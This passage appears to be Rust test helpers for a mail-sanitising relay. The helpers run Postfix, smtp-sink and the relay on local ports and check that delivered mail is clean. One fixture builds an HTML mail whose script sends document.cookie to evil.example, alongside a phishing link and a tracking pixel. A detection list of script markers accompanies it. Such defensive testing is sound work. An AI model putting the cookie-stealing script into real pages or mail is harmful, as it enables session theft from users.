//! Shared helpers for the integration tests that run the real `mugaika` binary against real
//! peers (Postfix's `smtp-sink`/`smtp-source`, Postfix itself, `swaks`): free 127.0.0.1 ports,
//! peer lookup with a loud SKIP (a failure under `MUGAIKA_REQUIRE_CORPORA=1`, as in CI), guards
//! that kill every spawned process on drop, a `mugaika serve` runner on a temporary config,
//! an `smtp-sink` whose dumped messages are read back, private Postfix instances, and a check
//! of the clean-message promises on what arrived.
//!
//! Every wait is bounded, every process belongs to a guard, and everything lives in temporary
//! directories, so a failing test leaves nothing running and nothing behind. Each test binary
//! uses only some of the helpers, hence the `dead_code` allowance.
#![allow(dead_code)]

use std::collections::HashSet;
use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::Mutex;
use std::time::{Duration, Instant};

/// The real binary under test.
pub const MUGAIKA: &str = env!("CARGO_BIN_EXE_mugaika");

// ---------------------------------------------------------------------------------------------
// Skipping, peers, corpora, ports.

/// True when a missing peer or corpus must fail the test instead of skipping it (CI).
pub fn required() -> bool {
    ["MUGAIKA_REQUIRE_CORPORA", "MUGAIKA_REQUIRE_TOOLS"]
        .iter()
        .any(|v| std::env::var(v).as_deref() == Ok("1"))
}

/// Reports a test that cannot run here: a loud SKIP, or a panic when [`required`].
pub fn skip(reason: &str) {
    if required() {
        panic!("required by MUGAIKA_REQUIRE_CORPORA=1 but unavailable: {reason}");
    }
    eprintln!("\n******** SKIP: {reason} ********\n");
}

/// Finds a peer program (e.g. `smtp-sink`, `swaks`, `postfix`); SKIPs when it is missing.
pub fn peer(name: &str) -> Option<PathBuf> {
    for dir in ["/usr/sbin", "/usr/bin", "/usr/local/sbin", "/usr/local/bin"] {
        let p = Path::new(dir).join(name);
        if p.is_file() {
            return Some(p);
        }
    }
    skip(&format!(
        "{name} is not installed (Debian packages postfix, swaks, python3)"
    ));
    None
}

/// The shared corpora directory (`MUGAIKA_CORPORA`, else `../shared/corpora`).
pub fn corpora() -> PathBuf {
    std::env::var_os("MUGAIKA_CORPORA")
        .map(PathBuf::from)
        .unwrap_or_else(|| concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpora").into())
}

/// One corpus folder; SKIPs when it is missing.
pub fn corpus(name: &str) -> Option<PathBuf> {
    let dir = corpora().join(name);
    if dir.is_dir() {
        return Some(dir);
    }
    skip(&format!(
        "corpus {name} not found at {} (set MUGAIKA_CORPORA)",
        dir.display()
    ));
    None
}

/// The shared tools directory (`genmail.py`, `checkmail.py`): next to the corpora, else
/// `../shared/tools`.
pub fn tools() -> PathBuf {
    let beside = corpora().join("../tools");
    if beside.is_dir() {
        return beside;
    }
    concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/tools").into()
}

/// Whether this process runs as root (smtp-sink then needs `-u`; Postfix needs root).
pub fn is_root() -> bool {
    fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("Uid:"))
                .map(|v| v.split_whitespace().next() == Some("0"))
        })
        .unwrap_or(false)
}

/// A port on 127.0.0.1 that was free a moment ago and has not been handed out before in this
/// process (tests run in parallel threads; another process may still take it, so the
/// starters below retry on a bind failure).
pub fn free_port() -> u16 {
    static GIVEN: Mutex<Option<HashSet<u16>>> = Mutex::new(None);
    for _ in 0..100 {
        let port = TcpListener::bind("127.0.0.1:0")
            .and_then(|l| l.local_addr())
            .expect("cannot bind 127.0.0.1:0")
            .port();
        let mut given = GIVEN.lock().unwrap_or_else(|e| e.into_inner());
        if given.get_or_insert_with(HashSet::new).insert(port) {
            return port;
        }
    }
    panic!("no free port on 127.0.0.1");
}

/// A temporary directory that other users can traverse: smtp-sink runs as `nobody` and
/// Postfix's daemons as `postfix`, and both must reach directories below it.
pub fn shared_tempdir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    set_mode(dir.path(), 0o755);
    dir
}

pub fn set_mode(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode))
        .unwrap_or_else(|e| panic!("chmod {}: {e}", path.display()));
}

/// Polls `f` every 50 ms until it is true; false when `limit` passed first.
pub fn wait_until(limit: Duration, mut f: impl FnMut() -> bool) -> bool {
    let end = Instant::now() + limit;
    loop {
        if f() {
            return true;
        }
        if Instant::now() >= end {
            return false;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// True when something accepts TCP connections on `addr`.
pub fn accepting(addr: SocketAddr) -> bool {
    TcpStream::connect_timeout(&addr, Duration::from_millis(500)).is_ok()
}

/// The last `n` lines of a log file, for failure messages.
pub fn tail(path: &Path, n: usize) -> String {
    let text = fs::read(path)
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_default();
    let lines: Vec<&str> = text.lines().collect();
    lines[lines.len().saturating_sub(n)..].join("\n")
}

// ---------------------------------------------------------------------------------------------
// Processes.

/// A spawned process, killed (SIGKILL) and reaped on drop unless it already ended.
pub struct Proc {
    pub name: String,
    child: Child,
}

impl Proc {
    pub fn spawn(name: &str, cmd: &mut Command) -> Proc {
        let child = cmd
            .spawn()
            .unwrap_or_else(|e| panic!("cannot start {name}: {e}"));
        Proc {
            name: name.to_string(),
            child,
        }
    }

    pub fn id(&self) -> u32 {
        self.child.id()
    }

    /// The exit status when the process has ended.
    pub fn exited(&mut self) -> Option<ExitStatus> {
        self.child.try_wait().ok().flatten()
    }

    /// Sends a signal by name (e.g. "TERM") through kill(1): the crate forbids `unsafe`, and
    /// std can only send SIGKILL.
    pub fn signal(&self, sig: &str) {
        let _ = Command::new("kill")
            .arg(format!("-{sig}"))
            .arg(self.id().to_string())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }

    /// Waits at most `limit` for the process to end.
    pub fn wait_for_exit(&mut self, limit: Duration) -> Option<ExitStatus> {
        let mut status = None;
        wait_until(limit, || {
            status = self.exited();
            status.is_some()
        });
        status
    }

    pub fn kill(&mut self) {
        if self.exited().is_none() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

impl Drop for Proc {
    fn drop(&mut self) {
        self.kill();
    }
}

/// What a bounded run of a command printed and how it ended.
pub struct Run {
    pub status: ExitStatus,
    pub stdout: String,
    pub stderr: String,
}

impl Run {
    /// Both outputs, for failure messages.
    pub fn text(&self) -> String {
        format!(
            "status {}\n--- stdout\n{}\n--- stderr\n{}",
            self.status, self.stdout, self.stderr
        )
    }
}

/// Runs `cmd` to its end within `limit` (killed and a panic beyond it); its output goes to
/// files in `dir` (named after `name`) so no pipe can fill up and block it.
pub fn run_bounded(name: &str, cmd: &mut Command, dir: &Path, limit: Duration) -> Run {
    let out = dir.join(format!("{name}.stdout"));
    let err = dir.join(format!("{name}.stderr"));
    cmd.stdin(Stdio::null())
        .stdout(fs::File::create(&out).expect("stdout file"))
        .stderr(fs::File::create(&err).expect("stderr file"));
    let mut p = Proc::spawn(name, cmd);
    let Some(status) = p.wait_for_exit(limit) else {
        p.kill();
        panic!(
            "{name} did not finish within {limit:?}\n--- stdout\n{}\n--- stderr\n{}",
            tail(&out, 40),
            tail(&err, 40)
        );
    };
    let read = |p: &Path| String::from_utf8_lossy(&fs::read(p).unwrap_or_default()).into_owned();
    Run {
        status,
        stdout: read(&out),
        stderr: read(&err),
    }
}

// ---------------------------------------------------------------------------------------------
// smtp-sink: the next hop, dumping every message to a file.

/// Postfix's `smtp-sink` on a free 127.0.0.1 port, dumping each transaction to `dir/m.*`.
pub struct SmtpSink {
    pub addr: SocketAddr,
    pub dir: PathBuf,
    proc: Proc,
}

impl SmtpSink {
    /// Starts the sink with its dump directory under `parent` (which must be traversable by
    /// `nobody`, see [`shared_tempdir`]). None (after a SKIP) when smtp-sink is missing.
    pub fn start(parent: &Path) -> Option<SmtpSink> {
        let bin = peer("smtp-sink")?;
        let dir = parent.join("sink");
        fs::create_dir_all(&dir).expect("sink dir");
        // smtp-sink drops to `nobody` after binding when run as root; the dumps are written
        // with those privileges.
        set_mode(&dir, 0o777);
        for _ in 0..5 {
            let addr: SocketAddr = ([127, 0, 0, 1], free_port()).into();
            let mut cmd = Command::new(&bin);
            if is_root() {
                cmd.args(["-u", "nobody"]);
            }
            cmd.arg("-d")
                .arg(format!("{}/m.", dir.display()))
                .args(["-h", "sink.test", "-t", "30"])
                .arg(addr.to_string())
                .arg("64")
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(fs::File::create(parent.join("sink.log")).expect("sink log"));
            let mut proc = Proc::spawn("smtp-sink", &mut cmd);
            let up = wait_until(Duration::from_secs(10), || {
                accepting(addr) || proc.exited().is_some()
            });
            if up && proc.exited().is_none() {
                return Some(SmtpSink { addr, dir, proc });
            }
            // Most likely the port was taken between free_port and bind: try another.
            eprintln!(
                "smtp-sink on {addr} did not come up: {}",
                tail(&parent.join("sink.log"), 5)
            );
        }
        panic!("smtp-sink would not start");
    }

    /// Number of transactions dumped so far.
    pub fn count(&self) -> usize {
        fs::read_dir(&self.dir).map(|d| d.count()).unwrap_or(0)
    }

    /// Every dumped message, ordered by file name. Read them only when the senders are done
    /// (a transaction in progress has a partial file).
    pub fn messages(&self) -> Vec<SinkMessage> {
        let mut files: Vec<PathBuf> = fs::read_dir(&self.dir)
            .expect("sink dir")
            .map(|e| e.expect("sink dir entry").path())
            .collect();
        files.sort();
        files
            .into_iter()
            .map(|f| {
                let raw = fs::read(&f).unwrap_or_else(|e| panic!("{}: {e}", f.display()));
                SinkMessage::parse(f, &raw)
            })
            .collect()
    }

    /// Waits until exactly `n` messages were dumped, then `settle` longer to see that no more
    /// come; panics with the count otherwise.
    pub fn expect_count(&self, n: usize, limit: Duration, settle: Duration) {
        let reached = wait_until(limit, || self.count() >= n);
        if reached {
            std::thread::sleep(settle);
        }
        assert_eq!(
            self.count(),
            n,
            "messages at the sink after {limit:?} (+{settle:?})"
        );
    }

    pub fn stop(&mut self) {
        self.proc.kill();
    }
}

/// One transaction as dumped by smtp-sink: the envelope it saw and the message as received.
#[derive(Debug, Clone)]
pub struct SinkMessage {
    pub file: PathBuf,
    pub helo: String,
    pub mail_from: String,
    pub rcpts: Vec<String>,
    /// The message with CRLF line ends restored (the dump writes LF; SMTP carried CRLF).
    pub data: Vec<u8>,
}

impl SinkMessage {
    /// Splits a dump: smtp-sink's own `X-...` records and its three-line `Received:` come
    /// first, then the message, then one empty line.
    pub fn parse(file: PathBuf, raw: &[u8]) -> SinkMessage {
        let mut lines: Vec<&[u8]> = raw.split(|&b| b == b'\n').collect();
        if lines.last().is_some_and(|l| l.is_empty()) {
            lines.pop(); // after the final newline
        }
        if lines.last().is_some_and(|l| l.is_empty()) {
            lines.pop(); // the empty line the dump appends
        }
        let arg = |v: &str| {
            let first = v.split_whitespace().next().unwrap_or("");
            first
                .trim_start_matches('<')
                .trim_end_matches('>')
                .to_string()
        };
        let (mut helo, mut mail_from, mut rcpts) = (String::new(), String::new(), Vec::new());
        let mut i = 0;
        while i < lines.len() {
            let line = String::from_utf8_lossy(lines[i]);
            i += 1;
            if let Some(v) = line.strip_prefix("X-Helo-Args: ") {
                helo = v.trim().to_string();
            } else if let Some(v) = line.strip_prefix("X-Mail-Args: ") {
                mail_from = arg(v);
            } else if let Some(v) = line.strip_prefix("X-Rcpt-Args: ") {
                rcpts.push(arg(v));
            } else if line.starts_with("Received: ") {
                while i < lines.len() && lines[i].starts_with(b"\t") {
                    i += 1;
                }
                break;
            }
        }
        let mut data = Vec::with_capacity(raw.len() + lines.len());
        for l in &lines[i.min(lines.len())..] {
            data.extend_from_slice(l.strip_suffix(b"\r").unwrap_or(l));
            data.extend_from_slice(b"\r\n");
        }
        SinkMessage {
            file,
            helo,
            mail_from,
            rcpts,
            data,
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The real `mugaika serve`.

/// The parts of a test configuration; everything else stays at its built-in default.
#[derive(Debug, Clone)]
pub struct ServeConfig {
    pub relay_domains: Vec<String>,
    pub next_hop: SocketAddr,
    /// PEM certificate and key for STARTTLS.
    pub tls: Option<(PathBuf, PathBuf)>,
    /// Extra `key = value` lines for `[server]`, `[delivery]` and `[sanitize]`.
    pub server: Vec<String>,
    pub delivery: Vec<String>,
    pub sanitize: Vec<String>,
    /// `key = value` lines for `[admin]`; none: the admin listener is disabled (tests run
    /// many servers at once, and its default port is fixed).
    pub admin: Vec<String>,
    /// Raw TOML appended at the end (e.g. `[[policy]]` tables).
    pub extra: String,
}

impl ServeConfig {
    pub fn new(next_hop: SocketAddr, relay_domains: &[&str]) -> ServeConfig {
        ServeConfig {
            relay_domains: relay_domains.iter().map(|s| s.to_string()).collect(),
            next_hop,
            tls: None,
            server: Vec::new(),
            delivery: Vec::new(),
            sanitize: Vec::new(),
            admin: Vec::new(),
            extra: String::new(),
        }
    }

    fn toml(&self, listen: SocketAddr, dir: &Path) -> String {
        let q = |s: &str| format!("{s:?}"); // a TOML basic string (same escapes as Rust's)
        let path = |p: &Path| q(&p.display().to_string());
        let list = |v: &[String]| v.iter().map(|s| q(s)).collect::<Vec<_>>().join(", ");
        let mut t = String::new();
        t += "[server]\n";
        t += &format!("listen = [{}]\n", q(&listen.to_string()));
        t += "hostname = \"mugaika.test\"\n";
        t += "allowed_clients = [\"127.0.0.0/8\"]\n";
        t += &format!("relay_domains = [{}]\n", list(&self.relay_domains));
        t += "command_timeout = \"30s\"\ndata_timeout = \"60s\"\nshutdown_timeout = \"5s\"\n";
        if let Some((cert, key)) = &self.tls {
            t += &format!("tls_cert = {}\ntls_key = {}\n", path(cert), path(key));
        }
        for l in &self.server {
            t += &format!("{l}\n");
        }
        t += "\n[delivery]\n";
        t += &format!("next_hop = {}\n", q(&self.next_hop.to_string()));
        // A refused or unreachable next hop is retried quickly instead of in a minute.
        t += "retry = [\"1s\"]\nconnect_timeout = \"5s\"\ncommand_timeout = \"30s\"\n";
        for l in &self.delivery {
            t += &format!("{l}\n");
        }
        t += &format!("\n[spool]\ndir = {}\n", path(&dir.join("spool")));
        t += &format!("\n[quarantine]\ndir = {}\n", path(&dir.join("quarantine")));
        t += "\n[sanitize]\ntimeout = \"60s\"\n";
        for l in &self.sanitize {
            t += &format!("{l}\n");
        }
        t += "\n[log]\nformat = \"text\"\nlevel = \"info\"\n";
        t += "\n[admin]\n";
        if self.admin.is_empty() {
            t += "enabled = false\n";
        }
        for l in &self.admin {
            t += &format!("{l}\n");
        }
        t += &self.extra;
        t
    }
}

/// `mugaika serve --config FILE` on a free 127.0.0.1 port; its log is `DIR/mugaika.log`.
pub struct Mugaika {
    pub addr: SocketAddr,
    pub dir: PathBuf,
    pub config: PathBuf,
    proc: Proc,
}

impl Mugaika {
    /// Writes the configuration under `dir` and starts the server; returns once it accepts
    /// connections. Panics (with the log) when it cannot start.
    pub fn start(dir: &Path, cfg: &ServeConfig) -> Mugaika {
        fs::create_dir_all(dir).expect("mugaika dir");
        let config = dir.join("mugaika.toml");
        let log = dir.join("mugaika.log");
        for _ in 0..5 {
            let addr: SocketAddr = ([127, 0, 0, 1], free_port()).into();
            fs::write(&config, cfg.toml(addr, dir)).expect("config");
            let mut cmd = Command::new(MUGAIKA);
            cmd.arg("serve")
                .arg("--config")
                .arg(&config)
                .env_remove("RUST_LOG")
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(fs::File::create(&log).expect("log file"));
            let mut proc = Proc::spawn("mugaika serve", &mut cmd);
            let up = wait_until(Duration::from_secs(20), || {
                accepting(addr) || proc.exited().is_some()
            });
            if up && proc.exited().is_none() {
                return Mugaika {
                    addr,
                    dir: dir.to_path_buf(),
                    config,
                    proc,
                };
            }
            let text = tail(&log, 20);
            if !text.contains("in use") {
                panic!("mugaika serve did not start:\n{text}");
            }
        }
        panic!("mugaika serve: no usable port");
    }

    pub fn log(&self) -> String {
        tail(&self.dir.join("mugaika.log"), 60)
    }

    /// Sends a signal (`"HUP"`, `"TERM"`, ...) to the server.
    pub fn signal(&self, sig: &str) {
        self.proc.signal(sig);
    }

    /// `mugaika queue list` output.
    pub fn queue_list(&self) -> String {
        let out = Command::new(MUGAIKA)
            .args(["queue", "list", "--config"])
            .arg(&self.config)
            .output()
            .expect("mugaika queue list");
        assert!(
            out.status.success(),
            "mugaika queue list: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Number of queued messages according to `mugaika queue list` ("N message(s) queued").
    pub fn queue_len(&self) -> usize {
        let list = self.queue_list();
        list.lines()
            .last()
            .and_then(|l| l.strip_suffix(" message(s) queued"))
            .and_then(|n| n.trim().parse().ok())
            .unwrap_or_else(|| panic!("unexpected queue list output:\n{list}"))
    }

    /// Waits for the spool queue to empty; panics with the listing and the log otherwise.
    pub fn expect_queue_empty(&self, limit: Duration) {
        let end = Instant::now() + limit;
        loop {
            // Files first (cheap), then the real command as the authority.
            let files = fs::read_dir(self.dir.join("spool/queue"))
                .map(|d| d.count())
                .unwrap_or(0);
            if files == 0 && self.queue_len() == 0 {
                return;
            }
            if Instant::now() >= end {
                panic!(
                    "the queue did not empty within {limit:?}:\n{}\n--- log\n{}",
                    self.queue_list(),
                    self.log()
                );
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    /// SIGTERM, then waits for the drain; returns the exit status (SIGKILL after `limit`).
    pub fn stop(&mut self, limit: Duration) -> Option<ExitStatus> {
        self.proc.signal("TERM");
        let status = self.proc.wait_for_exit(limit);
        self.proc.kill();
        status
    }
}

// ---------------------------------------------------------------------------------------------
// Private Postfix instances.

/// A private Postfix instance under `dir` (main.cf/master.cf in `dir/etc`, its own queue and
/// data directories, logging to `dir/maillog`), run in the foreground (`postfix start-fg`) so
/// that the test owns the process; stopped with `postfix stop` and killed on drop. No system
/// configuration is read or written except Postfix's own read-only `/etc/postfix` metadata
/// (`postfix-files`, `dynamicmaps.cf`).
pub struct Postfix {
    pub name: String,
    bin: PathBuf,
    pub addr: SocketAddr,
    pub dir: PathBuf,
    proc: Option<Proc>,
}

impl Postfix {
    /// Starts an instance whose smtpd listens on a free 127.0.0.1 port, accepts mail for
    /// 127.0.0.0/8 clients and relays everything to `relayhost` (`[127.0.0.1]:PORT`), with the
    /// extra `main.cf` lines given. None (after a SKIP) when Postfix is missing or we are not
    /// root (the master daemon must start as root).
    pub fn start(dir: &Path, name: &str, relayhost: &str, extra: &[String]) -> Option<Postfix> {
        let bin = peer("postfix")?;
        if !is_root() {
            skip("Postfix instances need root (the master daemon runs as root)");
            return None;
        }
        fs::create_dir_all(dir.join("etc")).expect("postfix etc");
        set_mode(dir, 0o755);
        let queue = dir.join("queue");
        fs::create_dir_all(&queue).expect("postfix queue");
        set_mode(&queue, 0o755);
        let maillog = dir.join("maillog");
        for _ in 0..5 {
            let addr: SocketAddr = ([127, 0, 0, 1], free_port()).into();
            let mut main = vec![
                "compatibility_level = 3.6".to_string(),
                format!("queue_directory = {}", queue.display()),
                format!("data_directory = {}", dir.join("data").display()),
                format!("myhostname = {name}.test"),
                "mydomain = test".into(),
                format!("myorigin = {name}.test"),
                "mydestination =".into(),
                "local_transport = error:5.1.1 no local delivery here".into(),
                "alias_maps =".into(),
                "alias_database =".into(),
                "local_recipient_maps =".into(),
                "inet_interfaces = 127.0.0.1".into(),
                "inet_protocols = ipv4".into(),
                "mynetworks = 127.0.0.0/8".into(),
                format!("relayhost = {relayhost}"),
                "smtp_dns_support_level = disabled".into(),
                "disable_dns_lookups = yes".into(),
                format!("syslog_name = postfix-{name}"),
                format!("maillog_file = {}", maillog.display()),
                format!("maillog_file_prefixes = {}", dir.display()),
                "biff = no".into(),
                // Quick retries and no waiting for a busy peer, so a test never stalls.
                "queue_run_delay = 2s".into(),
                "minimal_backoff_time = 2s".into(),
                "maximal_backoff_time = 4s".into(),
            ];
            main.extend(extra.iter().cloned());
            fs::write(dir.join("etc/main.cf"), main.join("\n") + "\n").expect("main.cf");
            fs::write(dir.join("etc/master.cf"), master_cf(addr)).expect("master.cf");
            let mut cmd = Command::new(&bin);
            cmd.arg("-c")
                .arg(dir.join("etc"))
                .arg("start-fg")
                .stdin(Stdio::null())
                .stdout(fs::File::create(dir.join("postfix.out")).expect("postfix.out"))
                .stderr(fs::File::create(dir.join("postfix.err")).expect("postfix.err"));
            let mut proc = Proc::spawn(&format!("postfix {name}"), &mut cmd);
            let up = wait_until(Duration::from_secs(30), || {
                accepting(addr) || proc.exited().is_some()
            });
            if up && proc.exited().is_none() {
                return Some(Postfix {
                    name: name.to_string(),
                    bin,
                    addr,
                    dir: dir.to_path_buf(),
                    proc: Some(proc),
                });
            }
            let log = format!(
                "{}\n{}\n{}",
                tail(&dir.join("postfix.out"), 10),
                tail(&dir.join("postfix.err"), 10),
                tail(&maillog, 10)
            );
            // A master that did start but could not bind exits after logging why.
            let _ = Command::new(&bin)
                .arg("-c")
                .arg(dir.join("etc"))
                .arg("abort")
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status();
            drop(proc);
            if !log.contains("in use") {
                panic!("Postfix instance {name} did not start:\n{log}");
            }
        }
        panic!("Postfix instance {name}: no usable port");
    }

    /// The instance's log (`maillog_file`).
    pub fn log(&self) -> String {
        tail(&self.dir.join("maillog"), 40)
    }

    /// Messages in the instance's queue (files under incoming, active, deferred, hold and
    /// maildrop).
    pub fn queued(&self) -> usize {
        fn count(p: &Path) -> usize {
            match fs::read_dir(p) {
                Ok(d) => d
                    .flatten()
                    .map(|e| {
                        let p = e.path();
                        if p.is_dir() {
                            count(&p)
                        } else {
                            1
                        }
                    })
                    .sum(),
                Err(_) => 0,
            }
        }
        ["incoming", "active", "deferred", "hold", "maildrop"]
            .iter()
            .map(|d| count(&self.dir.join("queue").join(d)))
            .sum()
    }

    /// `postfix stop`, then waits for the foreground master to end (killed after a while).
    pub fn stop(&mut self) {
        let Some(mut proc) = self.proc.take() else {
            return;
        };
        let _ = Command::new(&self.bin)
            .arg("-c")
            .arg(self.dir.join("etc"))
            .arg("stop")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        if proc.wait_for_exit(Duration::from_secs(15)).is_none() {
            let _ = Command::new(&self.bin)
                .arg("-c")
                .arg(self.dir.join("etc"))
                .arg("abort")
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status();
            proc.wait_for_exit(Duration::from_secs(5));
        }
    }
}

impl Drop for Postfix {
    fn drop(&mut self) {
        self.stop();
    }
}

/// The services a relay-only instance needs, none chrooted (the instance has no chroot tree).
fn master_cf(smtpd: SocketAddr) -> String {
    format!(
        "{smtpd} inet n - n - - smtpd\n\
         pickup    unix  n - n 60    1 pickup\n\
         cleanup   unix  n - n -     0 cleanup\n\
         qmgr      unix  n - n 300   1 qmgr\n\
         tlsmgr    unix  - - n 1000? 1 tlsmgr\n\
         rewrite   unix  - - n -     - trivial-rewrite\n\
         bounce    unix  - - n -     0 bounce\n\
         defer     unix  - - n -     0 bounce\n\
         trace     unix  - - n -     0 bounce\n\
         verify    unix  - - n -     1 verify\n\
         flush     unix  n - n 1000? 0 flush\n\
         proxymap  unix  - - n -     - proxymap\n\
         smtp      unix  - - n -     - smtp\n\
         relay     unix  - - n -     - smtp\n\
         showq     unix  n - n -     - showq\n\
         error     unix  - - n -     - error\n\
         retry     unix  - - n -     - error\n\
         discard   unix  - - n -     - discard\n\
         local     unix  - n n -     - local\n\
         anvil     unix  - - n -     1 anvil\n\
         scache    unix  - - n -     1 scache\n\
         postlog   unix-dgram n - n - 1 postlogd\n"
    )
}

// ---------------------------------------------------------------------------------------------
// TLS and test messages.

/// A self-signed certificate for `localhost` written as PEM files under `dir`: (cert, key).
pub fn tls_files(dir: &Path) -> (PathBuf, PathBuf) {
    let ck = rcgen::generate_simple_self_signed(vec!["localhost".into(), "mugaika.test".into()])
        .expect("rcgen");
    let cert = dir.join("cert.pem");
    let key = dir.join("key.pem");
    fs::write(&cert, ck.cert.pem()).expect("cert.pem");
    fs::write(&key, ck.key_pair.serialize_pem()).expect("key.pem");
    set_mode(&key, 0o600);
    (cert, key)
}

/// The phrase every test HTML mail carries, to find after sanitising.
pub const PHRASE: &str = "住民票の写しの交付申請について、下記のとおりご案内いたします。";

/// A Japanese HTML-only mail (Shift_JIS, base64) with a script, an event handler, a phishing
/// link and a tracking image: what the relay must turn into plain text. CRLF line ends.
pub fn html_mail(from: &str, to: &str, subject_tag: &str) -> Vec<u8> {
    use base64::Engine as _;
    let html = format!(
        "<html><head><script>document.location='http://evil.example/?'+document.cookie\
         </script></head><body onload=\"alert(1)\"><h1>市民課からのお知らせ</h1><p>{PHRASE}</p>\
         <p><a href=\"http://phish.example/login\">こちらからログイン</a></p>\
         <img src=\"http://tracker.example/p.gif?u=42\" width=1 height=1></body></html>"
    );
    let (sjis, _, bad) = encoding_rs::SHIFT_JIS.encode(&html);
    assert!(!bad, "test HTML not representable in Shift_JIS");
    let b64 = base64::engine::general_purpose::STANDARD.encode(&sjis);
    let mut m = format!(
        "From: sender <{from}>\r\nTo: <{to}>\r\nSubject: =?UTF-8?B?{}?=\r\n\
         Date: Mon, 17 Nov 2025 10:00:00 +0900\r\nMessage-ID: <{subject_tag}@internet.example>\r\n\
         X-Mailer: evil-mailer 1.0\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=Shift_JIS\r\nContent-Transfer-Encoding: base64\r\n\r\n",
        base64::engine::general_purpose::STANDARD.encode(format!("お知らせ {subject_tag}"))
    );
    for chunk in b64.as_bytes().chunks(76) {
        m.push_str(std::str::from_utf8(chunk).expect("base64 is ASCII"));
        m.push_str("\r\n");
    }
    m.into_bytes()
}

// ---------------------------------------------------------------------------------------------
// The clean-message promises, checked on what arrived.

/// What [`check_clean`] found.
#[derive(Debug)]
pub struct Clean {
    /// The outcome word of `X-Mugaika-Status` (`sanitized`, `clean`, `notice-only`).
    pub status: String,
    pub subject: String,
    /// All text/plain parts, decoded.
    pub text: String,
    /// Top-level header names in order.
    pub headers: Vec<String>,
}

/// Top-level fields a clean message may carry (ours, the allowlist, MIME).
const ALLOWED_HEADERS: &[&str] = &[
    "received",
    "from",
    "sender",
    "reply-to",
    "to",
    "cc",
    "subject",
    "date",
    "message-id",
    "in-reply-to",
    "references",
    "mime-version",
    "content-type",
    "content-transfer-encoding",
    "x-mugaika-status",
    "x-mugaika-quarantine-id",
];

/// Checks the promises of a clean message that can be seen from outside: 7-bit top-level
/// header, only allowlisted fields, `X-Mugaika-Status` and the quarantine id, a text/plain
/// body, no text/html part anywhere, nothing of the script. Panics with `what` and the message.
pub fn check_clean(data: &[u8], what: &str) -> Clean {
    let show = || String::from_utf8_lossy(&data[..data.len().min(4000)]).into_owned();
    let head_end = memchr::memmem::find(data, b"\r\n\r\n").unwrap_or(data.len());
    assert!(
        data[..head_end].is_ascii(),
        "{what}: 8-bit top-level header\n{}",
        show()
    );
    let msg = mail_parser::MessageParser::default()
        .parse(data)
        .unwrap_or_else(|| panic!("{what}: does not parse\n{}", show()));
    let headers: Vec<String> = msg
        .headers()
        .iter()
        .map(|h| h.name().to_ascii_lowercase())
        .collect();
    for h in &headers {
        assert!(
            ALLOWED_HEADERS.contains(&h.as_str()),
            "{what}: header {h} passed through\n{}",
            show()
        );
    }
    // "sanitized; actions=2", "clean" or "notice-only": the outcome is the leading word.
    let status = msg
        .header_raw("X-Mugaika-Status")
        .map(|s| s.split(';').next().unwrap_or("").trim().to_string())
        .unwrap_or_else(|| panic!("{what}: no X-Mugaika-Status\n{}", show()));
    assert!(
        ["sanitized", "clean", "notice-only"].contains(&status.as_str()),
        "{what}: X-Mugaika-Status {status:?}"
    );
    assert!(
        msg.header_raw("X-Mugaika-Quarantine-Id").is_some(),
        "{what}: no X-Mugaika-Quarantine-Id\n{}",
        show()
    );
    let mut text = String::new();
    for (i, part) in msg.parts.iter().enumerate() {
        use mail_parser::MimeHeaders as _;
        let ctype = part
            .content_type()
            .map(|c| format!("{}/{}", c.ctype(), c.subtype().unwrap_or("")))
            .unwrap_or_default()
            .to_ascii_lowercase();
        assert!(
            !part.is_text_html() && !ctype.starts_with("text/html"),
            "{what}: part {i} is text/html\n{}",
            show()
        );
        if ctype == "text/plain" || (i == 0 && ctype.is_empty()) {
            text += part.text_contents().unwrap_or("");
        }
    }
    assert!(!text.is_empty(), "{what}: no text/plain body\n{}", show());
    for bad in ["<script", "document.cookie", "onload", "<html", "<a href"] {
        assert!(
            !text.to_ascii_lowercase().contains(bad),
            "{what}: {bad:?} in the clean text\n{text}"
        );
    }
    Clean {
        status,
        subject: msg.subject().unwrap_or("").to_string(),
        text,
        headers,
    }
}

/// Runs `checkmail.py structural` (Python's own mail parser, independent of ours) over
/// `files`; panics with its findings unless all pass. SKIPs when python3 or the tool is
/// missing.
pub fn checkmail(files: &[PathBuf], scratch: &Path) {
    let tool = tools().join("checkmail.py");
    if !tool.is_file() {
        skip(&format!("{} not found", tool.display()));
        return;
    }
    let Some(python) = peer("python3") else {
        return;
    };
    let mut cmd = Command::new(python);
    cmd.arg(&tool).arg("structural").args(files);
    let run = run_bounded("checkmail", &mut cmd, scratch, Duration::from_secs(120));
    let last = run.stdout.lines().last().unwrap_or("").to_string();
    let want = format!("{n}/{n} pass", n = files.len());
    assert!(
        run.status.success() && last == want,
        "checkmail.py structural: {}",
        run.text()
    );
}

/// Writes each sink message's data to `dir/NNNN.eml` for tools that read files.
pub fn write_messages(messages: &[SinkMessage], dir: &Path) -> Vec<PathBuf> {
    fs::create_dir_all(dir).expect("messages dir");
    messages
        .iter()
        .enumerate()
        .map(|(i, m)| {
            let p = dir.join(format!("{i:04}.eml"));
            let mut f = fs::File::create(&p).expect("message file");
